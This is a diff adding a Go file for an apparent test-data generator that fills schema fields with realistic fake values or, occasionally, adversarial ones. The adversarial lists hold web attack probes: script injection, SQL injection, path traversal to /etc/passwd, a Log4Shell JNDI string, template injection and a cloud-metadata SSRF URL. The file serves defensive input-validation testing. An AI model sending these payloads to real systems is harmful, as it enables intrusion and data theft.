@@ -0,0 +1,280 @@
+package main
+
+import (
+	"fmt"
+	"math"
+	"math/rand"
+	"strings"
+	"unicode"
+
+	"github.com/bxcodec/faker/v3"
+)
+
+// adversarialChance is how often a semantically recognised field gets a
+// hostile value for its kind instead of a realistic one.
+const adversarialChance = 0.15
+
+// semanticRule recognises a kind of field by the words in its name or
+// description and knows realistic and adversarial values for it.
+type semanticRule struct {
+	// words are matched against the tokens of the field name, e.g.
+	// firstName, first_name and first-name all yield [first name].
+	// Multi-word entries must match consecutive tokens.
+	words []string
+	// types lists the schema types the rule can produce values for.
+	types       []string
+	realistic   func() interface{}
+	adversarial []interface{}
+}
+
+var hostileStrings = []interface{}{
+	"", " ", strings.Repeat("A", 1024), "<script>alert(1)</script>", "' OR '1'='1", "../../etc/passwd",
+	"null", "‮evil", "\x00", "${jndi:ldap://example.com/a}", "{{7*7}}",
+}
+
+// semanticRules are checked in order; the first match wins, so the more
+// specific rules come first.
+var semanticRules = []semanticRule{
+	{
+		words:       []string{"first name", "firstname", "given name", "forename"},
+		types:       []string{"string"},
+		realistic:   func() interface{} { return faker.FirstName() },
+		adversarial: append([]interface{}{"  Ann  ", "ANN", "anne-marie", "O'Brien", "José", "李"}, hostileStrings...),
+	},
+	{
+		words:       []string{"last name", "lastname", "surname", "family name"},
+		types:       []string{"string"},
+		realistic:   func() interface{} { return faker.LastName() },
+		adversarial: append([]interface{}{"  Smith  ", "SMITH", "van der Berg", "O'Neil", "Müller"}, hostileStrings...),
+	},
+	{
+		words:       []string{"username", "user name", "login", "handle", "nickname"},
+		types:       []string{"string"},
+		realistic:   func() interface{} { return faker.Username() },
+		adversarial: append([]interface{}{"admin", "root", "Admin", " admin", "a", "user name", "ユーザー", "user@name"}, hostileStrings...),
+	},
+	{
+		words:       []string{"email", "mail"},
+		types:       []string{"string"},
+		realistic:   func() interface{} { return faker.Email() },
+		adversarial: append([]interface{}{"ASH@EXAMPLE.COM", "ash+tag@example.com", "ash@localhost", "ash@example.com.", "ash@[127.0.0.1]", "\"a b\"@example.com", "ash@xn--bcher-kva.example"}, hostileStrings...),
+	},
+	{
+		words:       []string{"phone", "mobile", "msisdn", "telephone", "tel", "fax"},
+		types:       []string{"string"},
+		realistic:   func() interface{} { return faker.E164PhoneNumber() },
+		adversarial: append([]interface{}{"+0000000000", "123", "+1 (555) 010-9999", "555-0100 ext. 2", "++15550100", "+999999999999999999"}, hostileStrings...),
+	},
+	{
+		words:       []string{"full name", "fullname", "display name"},
+		types:       []string{"string"},
+		realistic:   func() interface{} { return faker.Name() },
+		adversarial: hostileNames,
+	},
+	{
+		words:       []string{"country"},
+		types:       []string{"string"},
+		realistic:   func() interface{} { return pick(countries) },
+		adversarial: append([]interface{}{"us", "USA", "United States of America", "XX", "ZZ", "Deutschland"}, hostileStrings...),
+	},
+	{
+		words:       []string{"city", "town"},
+		types:       []string{"string"},
+		realistic:   func() interface{} { return pick(cities) },
+		adversarial: append([]interface{}{"new york", "NEW YORK", "São Paulo", "Llanfairpwllgwyngyll"}, hostileStrings...),
+	},
+	{
+		words:       []string{"currency"},
+		types:       []string{"string"},
+		realistic:   func() interface{} { return faker.Currency() },
+		adversarial: append([]interface{}{"usd", "US$", "XXX", "BTC"}, hostileStrings...),
+	},
+	{
+		words:       []string{"price", "amount", "cost", "total", "balance", "fee"},
+		types:       []string{"number", "integer", "string"},
+		realistic:   func() interface{} { return math.Round(rand.Float64()*100000) / 100 },
+		adversarial: []interface{}{0, -1, -0.01, 0.001, 1e12, math.MaxInt32 + 1, "12.50", "1,000.00", "NaN"},
+	},
+	{
+		words:       []string{"url", "uri", "website", "homepage", "link", "callback", "webhook"},
+		types:       []string{"string"},
+		realistic:   func() interface{} { return faker.URL() },
+		adversarial: append([]interface{}{"javascript:alert(1)", "file:///etc/passwd", "http://169.254.169.254/latest/meta-data/", "http://localhost:0/", "//example.com", "HTTP://EXAMPLE.COM"}, hostileStrings...),
+	},
+	{
+		words:       []string{"domain", "hostname", "host"},
+		types:       []string{"string"},
+		realistic:   func() interface{} { return faker.DomainName() },
+		adversarial: append([]interface{}{"localhost", "127.0.0.1", "EXAMPLE.COM", "example.com.", "xn--bcher-kva.example"}, hostileStrings...),
+	},
+	{
+		words:       []string{"password", "passwd", "secret"},
+		types:       []string{"string"},
+		realistic:   func() interface{} { return faker.Password() },
+		adversarial: append([]interface{}{"password", "12345678", "a", strings.Repeat("p", 73)}, hostileStrings...),
+	},
+	{
+		words:       []string{"description", "comment", "bio", "message", "note", "summary"},
+		types:       []string{"string"},
+		realistic:   func() interface{} { return faker.Sentence() },
+		adversarial: append([]interface{}{strings.Repeat("lorem ", 2000), "line\nbreak", "emoji 🎉"}, hostileStrings...),
+	},
+	// a bare name is a person's only when no more specific rule, e.g.
+	// domain_name or country_name, claimed the field
+	{
+		words:       []string{"name"},
+		types:       []string{"string"},
+		realistic:   func() interface{} { return faker.Name() },
+		adversarial: hostileNames,
+	},
+}
+
+var hostileNames = append([]interface{}{"  Ann   Lee ", "ann lee", "Dr. Ann Lee Jr.", "X Æ A-12"}, hostileStrings...)
+
+var countries = []string{"US", "GB", "DE", "FR", "IN", "JP", "BR", "CA", "AU", "NG"}
+
+var cities = []string{"London", "Berlin", "Paris", "Mumbai", "Tokyo", "São Paulo", "Toronto", "Sydney", "Lagos", "New York"}
+
+// generateSemantic produces a realistic, or occasionally adversarial, value
+// for a field whose name or description identifies what it holds. Both keep
+// to the schema's type and bounds; values that break them are the mutators'
+// job. It reports false when no rule applies, no value of the rule fits, or
+// the schema already pins the value down with enum, const, pattern or
+// format.
+func generateSemantic(name string, schema map[string]interface{}) (interface{}, bool) {
+	for _, key := range []string{"enum", "const", "pattern", "format"} {
+		if _, ok := schema[key]; ok {
+			return nil, false
+		}
+	}
+	rule := findSemanticRule(name, schema)
+	if rule == nil {
+		return nil, false
+	}
+	t := schemaType(schema)
+
+	if rand.Float64() < adversarialChance {
+		var fitting []interface{}
+		for _, value := range rule.adversarial {
+			if len(validateSchema(schema, jsonRoundTrip(value), "")) == 0 {
+				fitting = append(fitting, value)
+			}
+		}
+		if len(fitting) > 0 {
+			return fitting[rand.Intn(len(fitting))], true
+		}
+	}
+
+	value := rule.realistic()
+	switch t {
+	case "string":
+		s := fmt.Sprintf("%v", value)
+		length := float64(len([]rune(s)))
+		if minLength, ok := schemaNumber(schema, "minLength"); ok && length < minLength {
+			return nil, false
+		}
+		if maxLength, ok := schemaNumber(schema, "maxLength"); ok && length > maxLength {
+			return nil, false
+		}
+		return s, true
+	case "integer", "number":
+		f, ok := value.(float64)
+		if !ok {
+			return nil, false
+		}
+		if t == "integer" {
+			f = math.Trunc(f)
+		}
+		if len(validateNumber(schema, f, "")) > 0 {
+			return nil, false
+		}
+		if t == "integer" {
+			return int64(f), true
+		}
+		return f, true
+	}
+	return nil, false
+}
+
+// findSemanticRule returns the first rule whose words appear in the field
+// name, or failing that in the schema's description or title.
+func findSemanticRule(name string, schema map[string]interface{}) *semanticRule {
+	t := schemaType(schema)
+	candidates := []string{name}
+	for _, key := range []string{"title", "description"} {
+		if text, ok := schema[key].(string); ok {
+			candidates = append(candidates, text)
+		}
+	}
+	for _, text := range candidates {
+		tokens := fieldTokens(text)
+		for i := range semanticRules {
+			rule := &semanticRules[i]
+			if !containsString(rule.types, t) {
+				continue
+			}
+			for _, word := range rule.words {
+				if containsTokens(tokens, strings.Fields(word)) {
+					return rule
+				}
+			}
+		}
+	}
+	return nil
+}
+
+// fieldTokens splits a field name or description into lower-case words:
+// "firstName", "first_name" and "First name" all become [first name].
+func fieldTokens(text string) []string {
+	var tokens []string
+	var current []rune
+	flush := func() {
+		if len(current) > 0 {
+			tokens = append(tokens, strings.ToLower(string(current)))
+			current = current[:0]
+		}
+	}
+	runes := []rune(text)
+	for i, r := range runes {
+		switch {
+		case !unicode.IsLetter(r) && !unicode.IsDigit(r):
+			flush()
+		case unicode.IsUpper(r) && i > 0 && (unicode.IsLower(runes[i-1]) || (i+1 < len(runes) && unicode.IsLower(runes[i+1]))):
+			flush()
+			current = append(current, r)
+		default:
+			current = append(current, r)
+		}
+	}
+	flush()
+	return tokens
+}
+
+func containsTokens(tokens, words []string) bool {
+	for i := 0; i+len(words) <= len(tokens); i++ {
+		match := true
+		for j, word := range words {
+			if tokens[i+j] != word {
+				match = false
+				break
+			}
+		}
+		if match {
+			return true
+		}
+	}
+	return false
+}
+
+func containsString(list []string, s string) bool {
+	for _, item := range list {
+		if item == s {
+			return true
+		}
+	}
+	return false
+}
+
+func pick(values []string) string {
+	return values[rand.Intn(len(values))]
+}